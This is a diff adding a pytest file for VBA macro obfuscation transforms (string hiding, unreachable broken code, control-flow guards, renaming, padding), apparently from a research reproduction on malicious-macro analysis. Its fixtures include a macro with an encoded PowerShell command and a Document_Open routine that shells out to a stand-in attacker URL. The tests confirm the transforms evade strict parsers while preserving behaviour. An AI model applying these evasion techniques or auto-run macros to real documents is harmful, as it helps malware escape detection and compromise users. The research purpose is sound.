@@ -1,0 +1,158 @@
+"""Tests for the §VI.B anti-analysis transforms and pipeline composition."""
+
+import pytest
+
+from repro.obfuscation.antianalysis import (
+    BrokenCodeInserter,
+    FlowChanger,
+    StringHider,
+)
+from repro.obfuscation.base import make_context
+from repro.obfuscation.pipeline import (
+    ObfuscationPipeline,
+    build_profile,
+    default_pipeline,
+)
+from repro.obfuscation.rename import RandomRenamer
+from repro.vba.interpreter import run_function
+from repro.vba.parser import VBAParseError, parse_module
+
+PAYLOAD_MODULE = (
+    "Function Payload() As String\n"
+    "    Dim cmd As String\n"
+    '    cmd = "powershell -enc SQBFAFgA"\n'
+    '    Payload = cmd & " now"\n'
+    "End Function\n"
+)
+
+DOWNLOADER_SUB = (
+    "Sub Document_Open()\n"
+    "    Dim target As String\n"
+    '    target = "http://evil.example/mal.exe"\n'
+    "    Shell target, 0\n"
+    "End Sub\n"
+)
+
+
+class TestStringHider:
+    def test_hidden_strings_move_to_document_variables(self):
+        context = make_context(11)
+        out = StringHider(hide_probability=1.0, min_length=4).apply(
+            PAYLOAD_MODULE, context
+        )
+        assert "powershell -enc SQBFAFgA" not in out
+        assert "powershell -enc SQBFAFgA" in context.document_variables.values()
+
+    def test_runtime_lookup_recovers_hidden_string(self):
+        context = make_context(11)
+        hider = StringHider(hide_probability=1.0, min_length=4)
+        out = hider.apply(PAYLOAD_MODULE, context)
+        # document_variables is keyed by storage expression — exactly what
+        # the interpreter's host_values lookup expects.
+        host = dict(context.document_variables)
+        assert run_function(out, "Payload", host_values=host) == run_function(
+            PAYLOAD_MODULE, "Payload"
+        )
+
+    def test_short_strings_not_hidden(self):
+        source = 'Sub T()\n    x = "ab"\nEnd Sub\n'
+        context = make_context(1)
+        out = StringHider(hide_probability=1.0, min_length=6).apply(source, context)
+        assert '"ab"' in out
+        assert not context.document_variables
+
+
+class TestBrokenCodeInserter:
+    def test_broken_code_is_unreachable_but_breaks_the_parser(self):
+        context = make_context(5)
+        out = BrokenCodeInserter().apply(DOWNLOADER_SUB, context)
+        assert "Exit Sub" in out
+        # The payload statements are intact and precede the Exit Sub.
+        assert out.index("Shell target") < out.index("Exit Sub")
+        # A strict parser chokes on the dangling broken objects.
+        with pytest.raises(VBAParseError):
+            parse_module(out)
+
+    def test_no_sub_means_no_change(self):
+        source = "Function F()\n    F = 1\nEnd Function\n"
+        out = BrokenCodeInserter().apply(source, make_context(5))
+        assert out == source
+
+
+class TestFlowChanger:
+    def test_body_is_wrapped_in_guard(self):
+        out = FlowChanger().apply(DOWNLOADER_SUB, make_context(5))
+        assert "If " in out
+        assert "End If" in out
+        assert "Shell target" in out
+        # Still one Sub with balanced structure.
+        assert out.count("Sub Document_Open") == 1
+
+
+class TestPipelines:
+    def test_default_pipeline_applies_all_four_categories(self):
+        pipeline = default_pipeline()
+        assert set(pipeline.categories) == {"O1", "O2", "O3", "O4"}
+
+    def test_default_pipeline_preserves_semantics(self):
+        result = default_pipeline().run(PAYLOAD_MODULE, seed=42)
+        # The function name was renamed: find it by elimination.
+        module = parse_module(result.source)
+        expected = run_function(PAYLOAD_MODULE, "Payload")
+        from repro.vba.interpreter import Interpreter
+
+        interp = Interpreter.from_source(result.source)
+        outputs = []
+        for name, proc in interp.module.procedures.items():
+            if proc.kind == "function" and not proc.params:
+                try:
+                    outputs.append(interp.call(name))
+                except Exception:
+                    continue
+        assert expected in outputs
+        del module
+
+    def test_pipeline_is_deterministic_per_seed(self):
+        pipeline = default_pipeline()
+        first = pipeline.run(PAYLOAD_MODULE, seed=9)
+        second = pipeline.run(PAYLOAD_MODULE, seed=9)
+        assert first.source == second.source
+
+    def test_different_seeds_differ(self):
+        pipeline = default_pipeline()
+        assert (
+            pipeline.run(PAYLOAD_MODULE, seed=1).source
+            != pipeline.run(PAYLOAD_MODULE, seed=2).source
+        )
+
+    def test_empty_pipeline_rejected(self):
+        with pytest.raises(ValueError):
+            ObfuscationPipeline([])
+
+    def test_build_profile_variants(self):
+        import random
+
+        rng = random.Random(0)
+        for _ in range(10):
+            pipeline = build_profile(rng, use_anti=True, target_length=2000)
+            result = pipeline.run(PAYLOAD_MODULE, seed=3)
+            assert result.source  # non-empty output
+            assert result.applied == pipeline.categories
+
+    def test_profile_with_target_length_pads(self):
+        import random
+
+        pipeline = build_profile(
+            random.Random(1),
+            use_rename=False,
+            use_split=False,
+            use_encode=False,
+            use_anti=False,
+            target_length=4000,
+        )
+        result = pipeline.run(PAYLOAD_MODULE, seed=5)
+        assert len(result.source) >= 4000
+
+    def test_single_category_pipeline(self):
+        pipeline = ObfuscationPipeline([RandomRenamer()])
+        assert pipeline.categories == ("O1",)
